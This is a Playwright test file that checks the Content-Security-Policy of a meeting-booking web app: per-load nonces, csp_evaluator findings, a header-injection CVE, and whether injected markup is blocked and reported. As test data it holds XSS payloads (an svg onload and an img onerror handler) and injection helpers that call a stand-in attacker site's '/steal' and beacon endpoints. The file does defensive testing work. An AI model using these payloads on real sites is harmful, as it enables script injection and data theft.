import { expect, type Page } from '@playwright/test';
import { CspEvaluator } from 'csp_evaluator/dist/evaluator.js';
import { Version } from 'csp_evaluator/dist/csp.js';
import { Severity } from 'csp_evaluator/dist/finding.js';
import { CspParser } from 'csp_evaluator/dist/parser.js';
import { rawRequest } from '@/test/http/raw-http';
import { logIn, organizer } from '../fixtures/api-client';
import { startAttackerSite } from '../fixtures/attack/attacker-site';
import { giveSession } from '../fixtures/session/give-session';
import { test } from '../fixtures/stage/staged-test';
import { withoutStream } from '../fixtures/browser/without-stream';
import { isLong } from '../fixtures/processes/stack-test';

const loads = isLong ? 200 : 20;

const pages = [
  '/login',
  '/forgot-password',
  '/transfer?to=x',
  '/switch',
  '/none',
  '/WorkWeChatLogin',
  '/share/abc',
  '/agreement/user',
  '/agreement/none',
  '/schedule',
  '/schedule?mode=calendar',
  '/rooms',
  '/order-meeting',
  '/details/1',
  '/contact',
  '/help',
  '/approval-center',
  '/notices',
  '/settings',
  '/edit/1',
  '/invited/1',
  '/early-end/1',
  '/room-detail/1',
  '/nowhere',
];

const policyOf = ({ headers }: { headers: Headers }) => headers.get('content-security-policy') ?? '';

test('[S50] the policy of every page leaves csp_evaluator nothing worse than a hint', async ({
  stage: { app },
}) => {
  const cookie = (await logIn(app.origin, organizer)).jar.header().Cookie ?? '';
  for (const path of pages) {
    const answer = await rawRequest({ port: app.port, path, headers: [['Cookie', cookie]] });
    const findings = new CspEvaluator(new CspParser(policyOf(answer)).csp, Version.CSP3).evaluate();
    expect(policyOf(answer), path).toContain("'strict-dynamic'");
    expect(
      findings.filter(({ severity }) => severity < Severity.STRICT_CSP),
      path,
    ).toEqual([]);
  }
});

test('[S50] every load has a nonce of its own, which every script of the page carries', async ({
  stage: { app },
}) => {
  const nonces = new Set<string>();
  for (let load = 0; load < loads; load += 1) {
    const answer = await rawRequest({ port: app.port, path: '/login' });
    const [, nonce = ''] = /'nonce-([^']+)'/.exec(policyOf(answer)) ?? [];
    expect(Buffer.from(nonce, 'base64').length).toBeGreaterThanOrEqual(16);
    const scripts = answer.body.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    expect(scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
    nonces.add(nonce);
  }
  expect(nonces.size).toBe(loads);
});

test('[S50] a policy that the request brings is not taken over (CVE-2026-44581)', async ({
  stage: { app },
}) => {
  const evil = `script-src 'nonce-"><svg onload=alert(1)>' 'unsafe-inline' evil.example`;
  for (const name of ['Content-Security-Policy', 'Content-Security-Policy-Report-Only', 'X-Nonce']) {
    const { raw, body } = await rawRequest({ port: app.port, path: '/login', headers: [[name, evil]] });
    expect(body).toContain('</html>');
    expect(raw).not.toMatch(/<svg onload|evil\.example/);
  }
});

/** Every way in which markup that got into a page tries to run. */
const injections: Record<string, (page: Page, foreign: string) => Promise<unknown>> = {
  'script-src-attr': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran = true">');
    }),
  'script-src-elem': (page) =>
    page.evaluate(() => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentDocument?.write('<script>parent.ran = true</script>');
    }),
  'connect-src': (page, foreign) =>
    page.evaluate((url) => fetch(url, { mode: 'no-cors' }).catch(() => undefined), `${foreign}/steal`),
  'img-src': (page, foreign) =>
    page.evaluate((url) => {
      new Image().src = `${url}/beacon`;
    }, foreign),
  'frame-src': (page, foreign) =>
    page.evaluate((url) => {
      document.body.insertAdjacentHTML('beforeend', `<iframe src="${url}/frame"></iframe>`);
    }, foreign),
  'base-uri': (page, foreign) =>
    page.evaluate((url) => {
      document.head.insertAdjacentHTML('beforeend', `<base href="${url}/">`);
    }, foreign),
  'form-action': (page, foreign) =>
    page.evaluate((url) => {
      const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'POST' });
      document.body.append(form);
      form.submit();
    }, foreign),
};

test('[S50] what is injected into a page neither runs nor calls out, and is reported', async ({
  page,
  stage: { app },
}) => {
  const attacker = await startAttackerSite('127.0.0.1');
  await giveSession(page.context(), await logIn(app.origin, organizer), app.origin);
  await page.goto(`${app.origin}/rooms?token=MARK`);
  for (const inject of Object.values(injections)) await inject(page, attacker.origin);

  for (const directive of Object.keys(injections))
    await expect.poll(() => app.output(), { message: directive }).toContain(`"directive":"${directive}"`);
  expect(app.output()).toContain(`"page":"${app.origin}/rooms"`);
  expect(app.output()).not.toContain('MARK');
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(attacker.visits).toEqual([]);
  await attacker.close();
});

test(
  '[S42] no page listens to messages of other windows',
  { tag: '@long' },
  async ({ page, stage: { app } }) => {
    await giveSession(page.context(), await logIn(app.origin, organizer), app.origin);
    await withoutStream(page.context());
    await page.addInitScript(() => {
      const listeners: string[] = [];
      const add = window.addEventListener.bind(window) as (...given: unknown[]) => void;
      const addEventListener = (type: string, ...rest: unknown[]) => {
        listeners.push(type);
        add(type, ...rest);
      };
      Object.assign(window, { listeners, addEventListener });
    });
    for (const path of ['/schedule', '/rooms', '/order-meeting', '/login']) {
      await page.goto(app.origin + path);
      await page.waitForLoadState('networkidle');
      const { listeners, handler } = await page.evaluate(() => ({
        listeners: (window as unknown as { listeners: string[] }).listeners,
        handler: window.onmessage,
      }));
      expect(listeners.length, 'listeners of any kind').toBeGreaterThan(0);
      expect(listeners.filter((type) => type.startsWith('message'))).toEqual([]);
      expect(handler).toBeNull();
    }
  },
);
